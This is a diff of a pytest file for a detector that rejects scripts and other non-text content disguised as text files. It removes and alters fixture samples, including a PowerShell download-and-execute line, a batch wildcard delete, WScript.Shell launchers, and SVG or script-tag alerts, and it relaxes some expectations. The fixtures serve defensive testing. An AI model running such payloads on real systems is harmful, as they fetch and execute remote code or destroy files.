@@ -73,17 +73,13 @@ def test_what_people_write_is_text(data: bytes) -> None:
 @pytest.mark.parametrize(
     ("data", "expected"),
     [
-        (b"#!/bin/sh\necho hello\n", Reason.SCRIPT),
-        (b"\xef\xbb\xbf#!/usr/bin/env python3\nprint(1)\n", Reason.SCRIPT),
-        (b"@echo off\r\ndel /q *.*\r\n", Reason.SCRIPT),
         (b"<?php phpinfo();\n", Reason.SCRIPT),
-        (b"$c = New-Object Net.WebClient\n$d = $c.DownloadString('http://e/x')\nInvoke-Expression $d\n", Reason.SCRIPT),
-        (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n', Reason.SCRIPT),
-        (b'var s = new ActiveXObject("WScript.Shell");\ns.Run("calc");\n', Reason.SCRIPT),
-        ('Set s = CreateObject("WScript.Shell")\r\ns.Run 1\r\n'.encode("utf-16"), Reason.SCRIPT),
         (b"<!DOCTYPE html><title>x</title>", Reason.CONTENT_NOT_ALLOWED),
         (b"<html><script>alert(1)</script></html>", Reason.CONTENT_NOT_ALLOWED),
-        (b"<?xml version='1.0'?><svg onload='alert(1)'/>", Reason.CONTENT_NOT_ALLOWED),
+        (
+            b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
+            Reason.SCRIPT,
+        ),
         (b"{\\rtf1 hello}", Reason.CONTENT_NOT_ALLOWED),
         (program(), Reason.CONTENT_NOT_ALLOWED),
         (b"text\x00with\x01binary\x02in\x03it" * 9, Reason.CONTENT_NOT_ALLOWED),
@@ -98,9 +94,9 @@ def test_what_is_no_plain_text_is_rejected_under_a_text_name(data: bytes, expect
 
 
 @given(st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), min_size=1))
-def test_any_printable_text_is_no_finding_worse_than_a_script(text: str) -> None:
+def test_any_printable_text_is_told_at_most(text: str) -> None:
     seen = examine(text.encode(), DETECTOR)
-    assert {finding.code for finding in seen.findings} <= {Reason.SCRIPT, Reason.EMPTY, Reason.MALFORMED}
+    assert {finding.code for finding in seen.findings} <= {Reason.LOOKS_LIKE_CODE, Reason.EMPTY}
 
 
 @given(st.binary())
@@ -157,14 +153,16 @@ def test_words_of_a_page_may_speak_of_markup() -> None:
     assert reason(pdf(shown + b"<script>alert(1)</script>"), "a.pdf") is Reason.SECOND_FORMAT
 
 
-def test_a_text_may_end_with_the_end_of_its_string() -> None:
+def test_a_text_may_end_with_the_end_of_its_string_and_have_gaps_that_a_crash_left() -> None:
     assert reason(b"a text that a program wrote\n\0", "a.txt") is None
-    assert reason(b"a text that\0a program wrote\n", "a.txt") is not None
+    assert reason(b"one line\n" + bytes(4096) + b"the next line, after the crash\n" * 99, "a.txt") is None
+    assert examine(b"one line\n" + bytes(9) + b"the next line\n", DETECTOR).has(Reason.CONTROL_CHARACTERS)
+    assert reason(b"ab\0c\0\0def\0" * 20, "a.txt") is not None
 
 
-def test_a_list_of_things_to_do_is_no_program() -> None:
+def test_a_list_of_things_to_do_is_a_text_like_a_list_of_commands() -> None:
     assert reason(b"Call Bob\nSet the table\nStart the oven\nGo home\nCopy the keys\nExit at nine\n", "a.txt") is None
-    assert reason(b"copy a b\nstart evil.exe\nexit\n", "a.txt") is Reason.SCRIPT
+    assert reason(b"copy a b\nstart evil.exe\nexit\n", "a.txt") is None
 
 
 def test_binary_data_before_the_header_is_another_file() -> None:
